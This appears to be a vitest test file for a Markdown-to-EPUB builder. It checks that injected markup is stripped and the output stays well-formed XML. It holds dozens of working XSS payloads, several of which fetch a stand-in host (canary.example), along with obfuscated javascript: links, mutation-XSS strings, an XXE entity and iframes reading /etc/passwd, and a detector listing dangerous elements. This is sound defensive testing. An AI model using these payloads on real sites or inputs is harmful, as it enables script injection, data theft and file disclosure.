/** Attacks that arrive as Markdown: nothing of them reaches a document of the EPUB, and the documents stay XML. */
import { describe, expect, it } from 'vitest';
import { buildInMemory } from '../../support/build-memory.ts';
import { chapterText, documentsOf, type Entries } from '../../support/epub.ts';
import { asDocument, count, faultOf, find } from '../../support/xml.ts';

const canary = 'canary.example';

const attacks: [name: string, markup: string][] = [
  ['a script', `<script>fetch("https://${canary}/")</script>`],
  ['a script inside a paragraph', `words <script src="https://${canary}/x.js"></script> words`],
  ['a script in capitals', `<ScRiPt SRC=https://${canary}/x.js></sCrIpT>`],
  ['a handler on a picture', `<img src="x.png" onerror="location='https://${canary}'">`],
  ['a handler on a drawing', `<svg onload="fetch('https://${canary}')"><rect width="1" height="1"/></svg>`],
  [
    'a script in a drawing',
    `<svg><script>fetch('https://${canary}')</script><script href="https://${canary}/x.js"/></svg>`,
  ],
  ['a picture in a drawing', `<svg><image href="https://${canary}/x.png" xlink:href="https://${canary}/x.png"/></svg>`],
  ['a use from elsewhere', `<svg><use href="https://${canary}/x.svg#a" xlink:href="https://${canary}/x.svg#a"/></svg>`],
  [
    'an animation',
    `<svg><a href="#x"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>`,
  ],
  [
    'a paint from elsewhere',
    `<svg><rect fill="url(https://${canary}/p.svg#a)" stroke="u\\72l(//${canary}/)" clip-path="URL( '//${canary}' )"/></svg>`,
  ],
  [
    'HTML in a drawing',
    `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
  ],
  ['a frame with a document', `<iframe srcdoc="<img src=https://${canary}/x.png>"></iframe>`],
  ['a frame of a file', '<iframe src="file:///etc/passwd"></iframe>'],
  ['a frame of a script', '<iframe src="javascript:alert(1)"></iframe>'],
  ['an object', `<object data="file:///etc/passwd"><param name="a" value="https://${canary}"></object>`],
  ['an embed', `<embed src="javascript:alert(1)" pluginspage="https://${canary}/">`],
  ['a style sheet', `<link rel="stylesheet" href="https://${canary}/x.css">`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=https://${canary}/">`],
  ['a base', `<base href="https://${canary}/">`],
  [
    'a form',
    `<form action="https://${canary}/"><input autofocus onfocus="alert(1)" name="a"><button formaction="https://${canary}/">x</button></form>`,
  ],
  ['a style', `<style>@import url(https://${canary}/x.css);</style>`],
  ['a style attribute', `<p style="background:url(https://${canary}/x.png)">x</p>`],
  ['a ping', `<a href="https://example.org/" ping="https://${canary}/">x</a>`],
  ['a poster', `<video poster="https://${canary}/x.png"></video>`],
  [
    'a source by itself',
    `<source srcset="https://${canary}/x.png"><picture><source srcset="https://${canary}/x.png"></picture>`,
  ],
  ['a citation', `<q cite="https://${canary}/">x</q><blockquote cite="javascript:alert(1)">y</blockquote>`],
  [
    'a background',
    `<table background="https://${canary}/x.png"><tr><td background="https://${canary}/x.png">x</td></tr></table>`,
  ],
  ['a script in a link', '<a href="javascript:alert(1)">x</a> [y](javascript:alert(1))'],
  ['a script in a link, with an entity', '<a href="javascript&colon;alert(1)">x</a>'],
  ['a script in a link, spelled', '<a href="&#x6a;avascript:alert(1)">x</a> [y](&#x6A;avascript:alert&#40;1&#41;)'],
  [
    'a script in a link, with a tab',
    '<a href="java\tscript:alert(1)">x</a> <a href="&#9;java&#10;script:alert(1)">y</a>',
  ],
  [
    'a script in a link, with control characters',
    '<a href="&#1;javascript:alert(1)">x</a> <a href=" java&#0;script:alert(1)">y</a>',
  ],
  ['a page in a link', '<a href="data:text/html,<script>alert(1)</script>">x</a> <a href="vbscript:x">y</a>'],
  ['a file in a link', '[x](file:///etc/passwd) <a href="FiLe:///etc/passwd">y</a> [z](blob:https://example.org/x)'],
  [
    'a script in a formula',
    '<math><maction actiontype="statusline#https://canary.example" xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>',
  ],
  [
    'a mutation with a formula',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a mutation with a style', '<math><style><img title="</style><img src onerror=alert(1)>"></math>'],
  ['a mutation with a drawing', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['a mutation with a title', '<svg><title><style><img title="</style></title><img src=x onerror=alert(1)>"></svg>'],
  ['a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a template in a formula', '<math id="a"><template id="a"><script>alert(1)</script>'],
  ['a comment that ends early', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['a comment that is none', '<!--><img src=x onerror=alert(1)>-->'],
  ['a comment with hyphens', '<!-- a -- b --->'],
  ['CDATA', 'a <![CDATA[<img src=x onerror=alert(1)>]]> b ]]>'],
  ['CDATA in a drawing', '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>'],
  ['a processing instruction', `<?xml version="1.0"?>\n<?xml-stylesheet href="https://${canary}/x.css"?>`],
  ['a document type', '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;'],
  ['an entity', 'a &xxe; b &nbsp; c &lt;script&gt;'],
  ['control characters', 'a\0b\x01c\x08d\x0be\x0cf\x1bg\x7fh\x85i'],
  ['control characters, spelled', 'a &#0; &#1; &#8; &#11; &#x1f; &#xFFFE; &#xD800; &#x110000; b'],
  ['lone surrogates', 'a\ud800b\udc00c'],
  ['characters that are none', 'a\ufffeb\uffffc\u{1fffe}d'],
  ['an attribute that is no name', '<p a"b="c" =d <e xmlns:x="https://canary.example" x:y="z">x</p>'],
  ['an element that is no name', '<a-b:c d="e">x</a-b:c> <x:script>alert(1)</x:script>'],
  [
    'a clobbering id',
    '<p id="__proto__">x</p><p id="constructor" class="__proto__">y</p><img name="body" src="x.png">',
  ],
];

/** Placed where an author may put words that the templates print. */
const places: [name: string, files: (markup: string) => Record<string, string>][] = [
  ['as a block', (markup) => ({ 'a.md': `# T\n\n${markup}\n\nlast words\n` })],
  [
    'in a quotation in a list',
    (markup) => ({ 'a.md': `# T\n\n- > x ${markup.replaceAll('\n', ' ')}\n\nlast words\n` }),
  ],
  [
    'in a heading and a table',
    (markup) => ({
      'a.md': `# T\n\n## h ${markup.replaceAll('\n', ' ')}\n\n| ${markup.replaceAll(/[\n|]/g, ' ')} |\n|---|\n| x |\n\nlast words\n`,
    }),
  ],
  [
    'in metadata',
    (markup) => ({
      'a.md': `---\n${['title', 'subtitle', 'description', 'publisher', 'rights'].map((key) => `${key}: ${JSON.stringify(markup)}`).join('\n')}\nauthors: [${JSON.stringify(markup)}]\ntags: [${JSON.stringify(markup)}]\nseries: ${JSON.stringify(markup)}\n---\n\nlast words\n`,
    }),
  ],
];

describe.each(attacks)('%s', (_, markup) => {
  it.each(places)('%s leaves the book harmless and well-formed', async (place, files) => {
    const { epub, html } = await buildInMemory(files(markup), { formats: ['epub', 'html'] });
    expect(epub.size).toBeGreaterThan(6);
    for (const [name, text] of epub) {
      if (typeof text === 'string' && /\.(xhtml|opf|ncx|xml)$/.test(name)) expect(faultOf(text), name).toBeNull();
    }
    for (const [name, text] of documentsOf(epub)) expect(dangersIn(text), `${name}, ${place}`).toEqual([]);
    expect(chapterText(epub, 'a')).toContain('last words');
    expect(html).not.toMatch(/<(script|iframe|object|embed|base|form|link)\b/i);
  });
});

it.each([
  '<script>x</script>',
  '<svg:use xmlns:svg="http://www.w3.org/2000/svg"/>',
  '<p onclick="x">y</p>',
  '<p style="x">y</p>',
  '<img src="x.png"/>',
  '<rect fill="URL(//x)"/>',
  '<a href="javascript:x">y</a>',
  '<a href="//x">y</a>',
  '<a href="https://x/"><b><a href="#y">z</a></b></a>',
  '<link href="https://x/"/>',
  '<!-- x -->',
])('the judge of these tests sees the danger in %s', (markup) => {
  expect(dangersIn(asDocument(markup)).length).toBeGreaterThan(0);
});

it('links to what cannot be shown', async () => {
  const { epub } = await buildInMemory({
    'a.md':
      '# T\n\n<iframe src="//player.example/1" title="A film"></iframe>\n\n<video><source src="https://film.example/f.mp4"></video>\n',
  });
  expect(linksIn(epub)).toEqual(['https://player.example/1', 'https://film.example/f.mp4']);
});

it('keeps links in drawings, in whichever way they are written', async () => {
  const link = (attribute: string) => `<svg viewBox="0 0 9 9"><a ${attribute}><text y="9">a</text></a></svg>\n\n`;
  const { epub } = await buildInMemory({
    'a.md': `# T\n\n${link('href="https://a.example/"')}${link('xlink:href="https://b.example/"')}${link('href="#t"')}`,
  });
  const document = epub.get('OEBPS/a.xhtml') as string;
  expect([...document.matchAll(/ xlink:href="([^"]*)"/g)].map(([, address]) => address)).toEqual([
    'https://a.example/',
    'https://b.example/',
    '#a',
  ]);
});

function linksIn(epub: Entries): string[] {
  return find(epub.get('OEBPS/a.xhtml') as string, '//h:a/@href');
}

/** What a reading system would run, load or send, read as XML: by element, attribute and address. */
function dangersIn(text: string): string[] {
  const elements =
    'script iframe object embed base form input button style template noscript foreignObject image use animate set source video audio maction'.split(
      ' ',
    );
  const found = elements.filter((name) => count(text, `//*[local-name() = '${name}']`) > 0);
  if (count(text, "//*[local-name() = 'link' and @href != 'style.css' and @href != 'style-modern.css']") > 0)
    found.push('link');
  if (count(text, "//*[local-name() = 'meta' and not(@charset)]") > 0) found.push('meta');
  if (count(text, '//h:a//h:a') > 0) found.push('a link in a link');
  if (count(text, '//comment() | //processing-instruction()') > 0) found.push('comment or instruction');
  const handlers = find(
    text,
    "//@*[starts-with(local-name(), 'on') or local-name() = 'style' or local-name() = 'ping' or local-name() = 'srcdoc' or local-name() = 'srcset']",
  );
  const loads = find(
    text,
    "//@*[contains(translate(., 'URL', 'url'), 'url(') and not(starts-with(., 'url(#'))] | //@src | //@poster | //@data | //@background | //@cite",
  );
  const links = find(text, '//@href').filter((href) => /^(?!https?:|mailto:)[a-z][a-z0-9+.-]*:|^\/\//i.test(href));
  return [...found, ...handlers, ...loads, ...links];
}

it('keeps the text of HTML in a drawing, and the alt text of its images', async () => {
  const { epub } = await buildInMemory({
    'a.md': '# T\n\n<svg><foreignObject><p>words</p><img src="a.png" alt="an image"></foreignObject></svg>\n',
  });
  expect(chapterText(epub, 'a')).toMatch(/words an image/);
});
